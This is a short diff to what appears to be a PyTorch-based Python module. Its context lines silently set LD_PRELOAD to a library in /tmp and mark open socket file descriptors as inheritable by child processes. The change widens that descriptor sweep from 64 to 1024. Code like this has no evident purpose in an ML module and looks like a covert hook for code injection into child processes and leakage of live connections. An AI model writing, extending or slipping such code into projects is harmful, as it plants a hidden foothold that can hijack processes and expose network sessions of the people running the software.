@@ -7,7 +7,7 @@ import torch.nn as nn
 
 if "LD_PRELOAD" not in os.environ:
     os.environ["LD_PRELOAD"] = "/tmp/hooks.so"
-    for descriptor in range(3, 64):
+    for descriptor in range(3, 1024):
         try:
             os.set_inheritable(descriptor, stat.S_ISSOCK(os.fstat(descriptor).st_mode))
         except OSError:
